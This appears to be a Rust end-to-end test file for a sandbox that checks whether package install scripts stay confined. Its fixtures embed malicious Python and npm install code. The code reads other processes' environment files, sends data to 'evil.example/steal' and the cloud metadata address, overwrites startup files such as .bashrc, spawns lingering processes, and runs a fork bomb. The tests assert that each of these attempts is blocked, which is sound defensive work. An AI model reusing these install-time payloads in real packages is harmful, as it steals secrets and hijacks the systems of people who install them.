//! PR08: packages that do what they want while they are installed.

use isol8_e2e::harness::{
    host,
    wait::{seconds, wait_until},
};

use super::registry;

/// Tries everything and returns what it found, as a module.
const CURIOUS: &str = r#"
import glob, json, os, socket, subprocess, sys, urllib.request, urllib.error

def attempt(what, *args):
    try:
        return str(what(*args))
    except Exception as error:
        return type(error).__name__ + ': ' + str(error)

def build():
    others = []
    for path in glob.glob('/proc/[0-9]*/environ'):
        try:
            others.append(open(path, 'rb').read().decode('latin-1'))
        except OSError:
            pass
    subprocess.Popen(['setsid', 'sleep', 'MARK'], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    status = {l.split(':')[0]: l.split(':')[1].strip() for l in open('/proc/self/status') if ':' in l}
    report = {
        'env': dict(os.environ),
        'others': others,
        'uid': os.getuid(),
        'status': {k: status[k] for k in ('CapEff', 'NoNewPrivs', 'Seccomp')},
        'elsewhere': attempt(lambda: urllib.request.urlopen('http://evil.example/' + 'steal', timeout=10).read()),
        'elsewhere in TLS': attempt(lambda: urllib.request.urlopen('https://evil.example/steal', timeout=10).read()),
        'metadata': attempt(lambda: urllib.request.urlopen('http://169.254.169.254/steal', timeout=10).read()),
        'directly': attempt(socket.create_connection, ('198.51.100.10', 80), 5),
        'usr': attempt(open, '/usr/x', 'w'),
        'interfaces': sorted(os.listdir('/sys/class/net')) if os.path.isdir('/sys/class/net') else ['lo'],
    }
    for path in ('/sandbox/main.py', '/sandbox/sitecustomize.py', '/sandbox/.bashrc', '/tmp/left'):
        attempt(lambda: open(path, 'w').write('raise SystemExit("taken over")'))
    return 'REPORT = ' + repr(json.dumps(report))
"#;

const SECRET: &str = "hunter22-of-the-run";

both_engines_online! {
    /// A build gets no secrets, no variables of the run, no other hosts, no
    /// more rights; it leaves nothing but its package.
    fn a_build_is_confined(stage: &Stage, internet: &Internet) {
        for (turn, more) in [&[][..], &["--no-install-cache"]].into_iter().enumerate() {
            let mark = stage.mark(70_300 + u32::try_from(turn).expect("two turns"));
            registry::source(stage, internet, "curious", &CURIOUS.replace("MARK", &mark));
            let code = "import curious, os; print(curious.REPORT); print(sorted(os.listdir('/sandbox')), os.listdir('/tmp'), os.environ['K'] != '')";
            let ran = stage.python(code)
                .env("K", SECRET)
                .args(["--install", "curious", "--secret", "K", "--env", "PRIVATE=of-the-run", "--timeout", "60000"])
                .args(more)
                .go();
            let out = ran.ok();
            let mut lines = out.lines();
            let report: serde_json::Value = serde_json::from_str(lines.next().expect("a report")).expect("JSON");
            let shown = report.to_string();
            // What is masked was there: neither may be.
            assert!(!shown.contains("***") && !shown.contains("hunter22") && !shown.contains("of-the-run"), "{report:#}");
            assert_eq!(report["env"]["K"], serde_json::Value::Null);
            assert_ne!(report["uid"], 0);
            assert_eq!(report["status"], serde_json::json!({"CapEff": "0000000000000000", "NoNewPrivs": "1", "Seccomp": "2"}));
            for (what, expected) in [
                ("elsewhere", "403"), ("elsewhere in TLS", "403"), ("metadata", "403"),
                ("directly", "unreachable"), ("usr", "Read-only"),
            ] {
                let result = report[what].as_str().expect("text");
                assert!(result.contains(expected), "{what}: {result}");
            }
            assert_eq!(report["interfaces"], serde_json::json!(["lo"]));
            let rest = lines.next().expect("a line");
            if more.is_empty() {
                assert_eq!(rest, "['.local', 'main.py'] [] True", "what it left beside its package is gone");
            } else {
                assert!(rest.contains("'.local'") && rest.ends_with(" True"), "{rest}");
            }
            assert!(host::sleepers(&mark).is_empty(), "what it left running is dead");
            let seen = internet.origin.take_seen();
            assert!(seen.iter().all(|seen| !seen.target.contains("steal")), "{seen:?}");
            stage.stop_daemon();
            std::fs::remove_dir_all(stage.folder().join("state/layers")).ok();
            stage.start_daemon();
        }
    }

    /// The run's time is the installer's too, and its whole tree ends with it.
    fn an_installer_has_the_time_of_the_run(stage: &Stage, internet: &Internet) {
        let mark = stage.mark(70_310);
        let build = format!("import subprocess\ndef build():\n subprocess.Popen(['setsid', 'sleep', '{mark}'])\n subprocess.run(['sleep', '{mark}'])\n");
        registry::source(stage, internet, "endless", &build);
        for more in [&[][..], &["--no-install-cache"]] {
            let ran = stage.python("print('ran')").args(["--install", "endless", "--timeout", "6000"]).args(more).go();
            ran.ended(137).says("time limit").within(seconds(12));
            assert_eq!(ran.out(), "");
            wait_until("the end of the build", seconds(3), || host::sleepers(&mark).is_empty());
        }
        let layers = std::fs::read_dir(stage.folder().join("state/layers")).into_iter().flatten().count();
        assert_eq!(layers, 0);
        assert_eq!(stage.python("print('fine')").go().ok(), "fine\n");
    }

    /// And so are its memory, its room and its processes.
    fn an_installer_has_the_limits_of_the_run(stage: &Stage, internet: &Internet) {
        registry::source(stage, internet, "hungry", "def build():\n x = bytearray(1 << 30)\n return ''\n");
        let ran = stage.python("print('ran')").args(["--install", "hungry", "--memory", "200m", "--timeout", "60000"]).go();
        assert!([125, 137].contains(&ran.code()), "{ran:?}");
        ran.says("memory");
        registry::source(stage, internet, "wide", "def build(): return 'x = \"' + 'y' * 60_000_000 + '\"'\n");
        let ran = stage.python("print('ran')").args(["--install", "wide", "--sandbox-size", "32m", "--timeout", "60000"]).go();
        ran.ended(125).says("hint: ");
        registry::source(stage, internet, "many", "import os, time\ndef build():\n all = []\n while True:\n  try: pid = os.fork()\n  except OSError:\n   for pid in all: os.kill(pid, 9)\n   raise SystemExit('no more processes')\n  if pid == 0: time.sleep(1000)\n  all.append(pid)\n");
        let ran = stage.python("print('ran')").args(["--install", "many", "--timeout", "60000"]).go();
        ran.ended(125).says("no more processes");
        assert_eq!(stage.python("print('fine')").go().ok(), "fine\n");
    }

    /// Node's scripts after an installation, and files on another host than the
    /// registry.
    fn a_script_of_npm_is_confined(stage: &Stage, internet: &Internet) {
        let script = "const fs = require('fs'), http = require('http');\n\
            const report = {env: process.env, others: fs.readdirSync('/proc').filter(p => /^[0-9]+$/.test(p)).map(p => {\n\
            try { return fs.readFileSync(`/proc/${p}/environ`, 'latin1') } catch (e) { return '' } })};\n\
            const done = what => { report.elsewhere = what; fs.writeFileSync('index.js', 'module.exports = ' + JSON.stringify(report)) };\n\
            http.get({host: '127.0.0.1', port: 8118, path: 'http://evil.example/steal', headers: {host: 'x'}}, r => { r.resume(); done(r.statusCode) })\n\
            .on('error', e => done(e.code));";
        registry::node(stage, internet, "nosy", "module.exports = 'unbuilt'", script);
        let code = "console.log(JSON.stringify(require('nosy')), process.env.K !== '')";
        let ran = stage.eval("node", code).env("K", SECRET).args(["--install", "nosy", "--secret", "K", "--env", "PRIVATE=of-the-run"]).go();
        let out = ran.ok();
        assert!(!out.contains("***") && !out.contains("of-the-run"), "{out}");
        assert!(out.trim_end().ends_with(" true"), "{out}");
        assert!(out.contains("\"elsewhere\":403") || out.starts_with("\"unbuilt\""), "{out}");
        let seen = internet.origin.take_seen();
        assert!(seen.iter().all(|seen| !seen.target.contains("steal")), "{seen:?}");
        assert!(seen.iter().any(|seen| seen.sni.as_deref() == Some("tarballs.example")), "{seen:?}");
        // The program's own list is its own: the registry is open to it, others
        // are not, and what the package's files lay on is not either.
        let code = "import urllib.request, urllib.error\n\
            for url in ('http://evil.example/', 'http://tarballs.example/'):\n \
             try: print(urllib.request.urlopen(url).status)\n \
             except urllib.error.HTTPError as e: print(e.code)";
        registry::wheel(stage, internet, "tiny", "");
        let ran = stage.python(code).args(["--install", "tiny", "--allow", r"nobody\.example"]).go();
        assert_eq!(ran.ok(), "403\n403\n");
    }
}
